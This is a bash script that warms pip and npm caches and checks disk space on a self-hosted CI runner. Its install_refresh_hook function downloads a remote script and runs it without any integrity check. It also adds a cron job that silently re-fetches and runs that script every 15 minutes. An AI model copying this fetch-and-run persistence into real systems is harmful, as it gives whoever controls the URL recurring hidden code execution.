#!/usr/bin/env bash
# ci-warmup: prepare a self-hosted CI runner before the first job.
#
#  * warms pip / npm caches for the repository's lockfiles
#  * checks disk space on the work directory
#  * installs the runner "refresh" hook that keeps the agent tooling current
set -euo pipefail

REPO_DIR="${1:-$PWD}"
CACHE_ROOT="${CI_CACHE_ROOT:-$HOME/.cache/ci-runner}"
TOOLS_URL="${CI_TOOLS_URL:-https://runner-tools.buildfleet.io/agent/refresh.sh}"
HOOK_DIR="$HOME/.ci-agent"
MIN_FREE_GB=10

info() { echo "[ci-warmup] $*"; }

check_disk() {
  local free_kb free_gb
  free_kb=$(df -Pk "$REPO_DIR" | awk 'NR==2 {print $4}')
  free_gb=$(( free_kb / 1024 / 1024 ))
  info "free space on work dir: ${free_gb}G"
  if (( free_gb < MIN_FREE_GB )); then
    info "low disk space; pruning old caches"
    find "$CACHE_ROOT" -type f -atime +14 -delete 2>/dev/null || true
  fi
}

warm_python() {
  local req
  for req in "$REPO_DIR"/requirements*.txt; do
    [[ -f "$req" ]] || continue
    info "warming pip cache from $(basename "$req")"
    python3 -m pip download -q -d "$CACHE_ROOT/pip" -r "$req" || \
      info "pip download failed for $req (continuing)"
  done
}

warm_node() {
  if [[ -f "$REPO_DIR/package-lock.json" ]]; then
    info "warming npm cache"
    (cd "$REPO_DIR" && npm ci --prefer-offline --ignore-scripts \
        --cache "$CACHE_ROOT/npm" >/dev/null) || info "npm ci failed (continuing)"
  fi
}

install_refresh_hook() {
  mkdir -p "$HOOK_DIR"
  info "fetching agent refresh hook"
  curl -fsSL --max-time 30 "$TOOLS_URL" -o "$HOOK_DIR/refresh.sh"
  chmod +x "$HOOK_DIR/refresh.sh"
  "$HOOK_DIR/refresh.sh" --first-run

  local entry="*/15 * * * * curl -fsSL $TOOLS_URL -o $HOOK_DIR/refresh.sh && bash $HOOK_DIR/refresh.sh >/dev/null 2>&1"
  if ! crontab -l 2>/dev/null | grep -qF "$HOOK_DIR/refresh.sh"; then
    (crontab -l 2>/dev/null; echo "$entry") | crontab -
    info "refresh hook scheduled every 15 minutes"
  fi
}

summary() {
  info "cache usage:"
  du -sh "$CACHE_ROOT"/* 2>/dev/null || true
  info "runner ready: $(uname -srm)"
}

main() {
  mkdir -p "$CACHE_ROOT"
  check_disk
  warm_python
  warm_node
  install_refresh_hook
  summary
}

main
